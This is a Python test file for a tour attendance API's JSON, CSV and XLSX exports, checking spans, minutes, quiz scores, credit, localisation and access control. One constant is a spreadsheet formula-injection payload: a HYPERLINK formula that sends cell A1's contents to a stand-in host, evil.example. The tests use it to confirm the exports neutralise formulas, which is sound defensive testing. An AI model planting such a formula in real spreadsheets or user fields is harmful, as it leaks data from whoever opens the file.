"""A tour's attendance: every span, minutes present, quiz score and credit per person, for
the tour's guide and admins, as JSON, CSV and XLSX (safe from formula injection, in the
requester's language); minutes and quiz scores as the credit judgement counts them."""

import csv
import io
from datetime import UTC, datetime, timedelta, timezone
from typing import Any

from openpyxl import load_workbook
from sqlalchemy import func, select

from protocol.credit import CreditRule
from server.bootstrap import ensure_user
from server.credits.facts import usable
from server.credits.judging import Exhibit, TourFacts, judge_tour
from server.credits.rules import GuideCredit
from server.db.models import LedgerEntry, ParticipationRecord, User
from server.keys import SESSIONS
from tests.server.conftest import PASSWORD, World
from tests.server.test_tour_changes import _tour

BEIJING = timezone(timedelta(hours=8))
EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"看这里")'


async def _login(world: World, username: str) -> dict[str, str]:
    client = world.client
    login = await client.post("/api/auth/login", json={"username": username,
                                                       "password": PASSWORD})
    token = (await (await client.post("/api/auth/tokens", json={},
                                      cookies=login.cookies)).json())["token"]
    client.session.cookie_jar.clear()
    return {"Authorization": f"Bearer {token}"}


async def _store(world: World, tour: int, t0: datetime,
                 facts: list[tuple[int, str, float, dict[str, Any]]]) -> None:
    """Facts as the live tour's server records them: tour, seat and the kind's fields."""
    seats = {world.users["guide"]: 0, world.users["member"]: 1, world.users["admin"]: 2}
    async with world.client.app[SESSIONS].begin() as db:
        first = (await db.scalar(select(func.count()).select_from(ParticipationRecord))) or 0
        for number, (user, kind, minute, detail) in enumerate(facts, start=first):
            db.add(ParticipationRecord(
                id=f"t{tour}-{number}", user_id=user, tour_id=tour, kind=kind,
                at=t0 + timedelta(minutes=minute),
                detail={"tour": tour, "seat": seats.get(user, 3), **detail}))


async def _party_day(world: World) -> tuple[dict, datetime, int]:
    """A tour that ran: the member came twice, the admin dropped in unregistered, and a
    registered member (whose name looks like a formula) never came."""
    client, sessions = world.client, world.client.server.app[SESSIONS]
    start = (datetime.now(BEIJING) + timedelta(days=1)).replace(microsecond=0)
    tour = await _tour(world, starts_at=start.isoformat())
    absent = await ensure_user(sessions, "absent", PASSWORD, "member", world.branch_a,
                               display_name=EVIL)
    for headers in (world.auth("member"), await _login(world, "absent")):
        assert (await client.post(f"/api/tours/{tour['id']}/registration",
                                  headers=headers)).status == 201
    t0 = datetime.now(UTC).replace(microsecond=0) - timedelta(hours=2)
    member, guide, admin = world.users["member"], world.users["guide"], world.users["admin"]
    facts: list[tuple[int, str, float, dict[str, Any]]] = [
        (guide, "tour_started", 0, {}), (guide, "joined", 0, {}),
        (member, "joined", 1, {}), (admin, "joined", 2, {}), (admin, "left", 7, {}),
        (member, "left", 11, {}),
        (guide, "quiz_started", 12, {"scene": "s1", "item": "q1"}),
        (guide, "quiz_started", 13, {"scene": "s1", "item": "q2"}),
        (member, "joined", 21, {}),
        (member, "quiz_answered", 22, {"scene": "s1", "item": "q1", "response": 2,
                                       "correct": True}),
        (member, "quiz_answered", 23, {"scene": "s1", "item": "q2", "response": 0,
                                       "correct": False}),
        (guide, "tour_ended", 41, {})]
    await _store(world, tour["id"], t0, facts)
    async with sessions.begin() as db:
        seq = (await db.scalar(select(func.max(LedgerEntry.seq)))) or 0
        for offset, (key, hours, subject) in enumerate((
                (f"tour/{member}/{tour['id']}", "1.5", {"kind": "tour", "tour": tour["id"]}),
                (f"exhibit/{member}/founding/2026", "0.5", {"kind": "exhibit",
                                                            "tour": tour["id"]}),
                (f"tour/{member}/999", "4", {"kind": "tour", "tour": 999}))):
            db.add(LedgerEntry(seq=seq + offset + 1, award_key=key, user_id=member, year=2026,
                               hours=hours, exhibit_id="founding", subject=subject, basis={},
                               at=t0.isoformat(), prev_hash="0" * 64, hash=f"{offset}" * 64))
    return tour, t0, absent


async def test_attendance_lists_everyone_with_spans_minutes_quiz_and_credit(world: World
                                                                           ) -> None:
    tour, t0, absent = await _party_day(world)
    answer = await world.client.get(f"/api/tours/{tour['id']}/attendance",
                                    headers=world.auth("guide"))
    assert answer.status == 200, await answer.text()
    report = await answer.json()
    assert report["tour"] == tour["id"]
    assert report["started_at"] == t0.astimezone(BEIJING).isoformat()
    assert report["ended_at"] == (t0 + timedelta(minutes=41)).astimezone(BEIJING).isoformat()
    people = {p["user"]: p for p in report["people"]}
    assert world.users["guide"] not in people
    assert set(people) == {world.users["member"], world.users["admin"], absent}
    member = people[world.users["member"]]

    def at(minute: int) -> str:
        return (t0 + timedelta(minutes=minute)).astimezone(BEIJING).isoformat()

    assert member["spans"] == [{"joined": at(1), "left": at(11)},
                               {"joined": at(21), "left": at(41)}]
    assert member["minutes"] == 30.0 and member["registered"] is True
    assert (member["quiz_right"], member["quiz_asked"]) == (1, 2)
    assert member["credit_hours"] == 2.0
    assert member["branch_id"] == world.branch_a and member["branch"] == "第一党支部"
    dropped_in = people[world.users["admin"]]
    assert dropped_in["registered"] is False and dropped_in["minutes"] == 5.0
    nobody = people[absent]
    assert nobody == {**nobody, "spans": [], "minutes": 0.0, "quiz_right": 0, "quiz_asked": 2,
                      "credit_hours": 0.0, "registered": True, "name": EVIL}


async def test_csv_and_xlsx_never_carry_a_formula(world: World) -> None:
    tour, _, absent = await _party_day(world)
    path = f"/api/tours/{tour['id']}/attendance"
    as_csv = await world.client.get(path + "?format=csv&lang=en", headers=world.auth("admin"))
    assert as_csv.status == 200 and as_csv.content_type == "text/csv"
    assert as_csv.headers["Content-Language"] == "en"
    text = (await as_csv.read()).decode("utf-8-sig")
    rows = {row["User"]: row for row in csv.DictReader(io.StringIO(text))}
    assert rows[str(absent)]["Name"] == "'" + EVIL
    member = rows[str(world.users["member"])]
    assert member["Minutes present"] == "30.0" and member["Credit hours"] == "2.0"
    assert member["Registered"] == "Yes" and rows[str(world.users["admin"])]["Registered"] == "No"
    for row in rows.values():
        for value in row.values():
            assert not value.startswith(("=", "+", "-", "@")), value
    as_xlsx = await world.client.get(path + "?format=xlsx", headers={
        **world.auth("admin"), "Accept-Language": "en-US,en;q=0.9"})
    assert as_xlsx.status == 200 and "spreadsheetml" in as_xlsx.content_type
    sheet = load_workbook(io.BytesIO(await as_xlsx.read())).active
    assert sheet.title == "Attendance"
    header = [c.value for c in sheet[1]]
    by_user = {r[0].value: r for r in sheet.iter_rows(min_row=2)}
    name = by_user[absent][header.index("Name")]
    assert name.value == "'" + EVIL and name.data_type == "s"
    assert by_user[world.users["member"]][header.index("Minutes present")].value == 30.0
    assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
    bad = await world.client.get(path + "?format=pdf", headers=world.auth("admin"))
    assert bad.status == 400 and "format" in (await bad.json())["error"]


async def test_files_speak_the_requesters_language_and_json_keeps_its_keys(world: World
                                                                           ) -> None:
    tour, _, absent = await _party_day(world)
    path = f"/api/tours/{tour['id']}/attendance"
    chinese = await world.client.get(path + "?format=csv", headers=world.auth("admin"))
    assert chinese.headers["Content-Language"] == "zh-CN"
    lines = (await chinese.read()).decode("utf-8-sig").splitlines()
    assert lines[0] == ("用户编号,用户名,姓名,支部编号,所在支部,已报名,进出时间,在场分钟,"
                        "答对题数,提问题数,所获学时")
    rows = {row[0]: row for row in csv.reader(lines[1:])}
    assert rows[str(absent)][5] == "是" and rows[str(world.users["admin"])][5] == "否"
    assert "True" not in "".join(lines) and "yes" not in "".join(lines)
    traditional = await world.client.get(path + "?format=xlsx", headers={
        **world.auth("admin"), "Accept-Language": "zh-HK"})
    sheet = load_workbook(io.BytesIO(await traditional.read())).active
    assert sheet.title == "導覽出勤" and sheet["F1"].value == "已報名"
    assert {c.value for c in sheet["F"][1:]} == {"是", "否"}
    report = await (await world.client.get(path + "?lang=en", headers=world.auth("admin"))
                    ).json()
    assert set(report["people"][0]) == {"user", "username", "name", "branch_id", "branch",
                                        "registered", "spans", "minutes", "quiz_right",
                                        "quiz_asked", "credit_hours"}
    assert {p["registered"] for p in report["people"]} == {True, False}


async def test_names_with_control_characters_make_a_file_not_an_error(world: World) -> None:
    tour, _, absent = await _party_day(world)
    async with world.client.app[SESSIONS].begin() as db:
        user = await db.get(User, absent)
        assert user is not None
        user.display_name = "王\x07小明\x1b=1"  # (PostgreSQL text holds no NUL)
    path = f"/api/tours/{tour['id']}/attendance"
    as_xlsx = await world.client.get(path + "?format=xlsx", headers=world.auth("admin"))
    assert as_xlsx.status == 200, await as_xlsx.text()
    sheet = load_workbook(io.BytesIO(await as_xlsx.read())).active
    assert "王小明=1" in {c.value for row in sheet.iter_rows() for c in row}
    as_csv = await world.client.get(path + "?format=csv", headers=world.auth("admin"))
    assert as_csv.status == 200 and "王小明=1" in (await as_csv.read()).decode("utf-8-sig")


async def test_minutes_and_quiz_are_what_the_credit_judgement_used(world: World) -> None:
    """Attendance reads the same typed facts through the same computation as the tour's
    credit judgement: for every person judged, the same minutes, quiz right and asked."""
    tour, t0, _ = await _party_day(world)
    member, admin = world.users["member"], world.users["admin"]
    # the admin back for a while, joining twice (a second device) before leaving
    await _store(world, tour["id"], t0, [
        (admin, "joined", 30, {}), (admin, "joined", 31, {}), (admin, "left", 33.5, {})])
    async with world.client.app[SESSIONS]() as db:
        records = (await db.scalars(select(ParticipationRecord).where(
            ParticipationRecord.tour_id == tour["id"]))).all()
    rule = CreditRule(hours=1.5, min_minutes=20, quiz_pass=0.6, tour_presence_share=0.5)
    judged = judge_tour(TourFacts.of(tour["id"], world.users["guide"], usable(list(records)),
                                     "s1"),
                        Exhibit("founding", "1.0.0", [("s1", rule)], None), GuideCredit())
    basis = {j.user: j.evidence.basis() for j in judged if j.kind == "tour"}
    report = await (await world.client.get(f"/api/tours/{tour['id']}/attendance",
                                           headers=world.auth("admin"))).json()
    people = {p["user"]: p for p in report["people"]}
    assert set(basis) <= set(people) and {member, admin} <= set(basis)
    for user, evidence in basis.items():
        row = people[user]
        assert (row["minutes"], row["quiz_right"], row["quiz_asked"]) == (
            evidence["minutes"], evidence["quiz_right"], evidence["quiz_total"]), user
    assert people[admin]["minutes"] == 5.0 + 3.5
    assert (people[member]["quiz_right"], people[member]["quiz_asked"]) == (1, 2)


async def test_a_live_tour_counts_up_to_now_and_leaves_open_stays_open(world: World) -> None:
    tour = await _tour(world)
    member, guide = world.users["member"], world.users["guide"]
    t0 = datetime.now(UTC).replace(microsecond=0) - timedelta(minutes=30)
    await _store(world, tour["id"], t0, [
        (guide, "tour_started", 0, {}), (member, "joined", 0, {}), (member, "left", 5, {}),
        (member, "joined", 10, {})])
    report = await (await world.client.get(f"/api/tours/{tour['id']}/attendance",
                                           headers=world.auth("guide"))).json()
    assert report["ended_at"] is None
    (row,) = report["people"]
    assert [s["left"] is None for s in row["spans"]] == [False, True]
    assert 24.9 <= row["minutes"] <= 26


async def test_only_the_tours_guide_and_admins_see_attendance(world: World) -> None:
    tour = await _tour(world)
    path = f"/api/tours/{tour['id']}/attendance"
    await ensure_user(world.client.server.app[SESSIONS], "guide-a2", PASSWORD, "guide",
                      world.branch_a)
    other_guide = await _login(world, "guide-a2")
    assert (await world.client.get(path)).status == 401
    for headers in (world.auth("member"), world.auth("editor"), other_guide):
        answer = await world.client.get(path, headers=headers)
        assert answer.status == 403 and (await answer.json())["error"]
    assert (await world.client.get("/api/tours/424242/attendance",
                                   headers=world.auth("admin"))).status == 404
    empty = await (await world.client.get(path, headers=world.auth("admin"))).json()
    assert empty["people"] == [] and empty["started_at"] is None


async def test_a_deleted_members_row_keeps_their_attendance_not_their_name(world: World
                                                                           ) -> None:
    tour, _, _ = await _party_day(world)
    assert (await world.client.delete(f"/api/users/{world.users['member']}",
                                      headers=world.auth("admin"))).status == 200
    report = await (await world.client.get(f"/api/tours/{tour['id']}/attendance",
                                           headers=world.auth("admin"))).json()
    (row,) = [p for p in report["people"] if p["user"] == world.users["member"]]
    async with world.client.server.app[SESSIONS]() as db:
        user = await db.get(User, world.users["member"])
    assert user is not None and row["name"] == user.display_name and row["minutes"] == 30.0
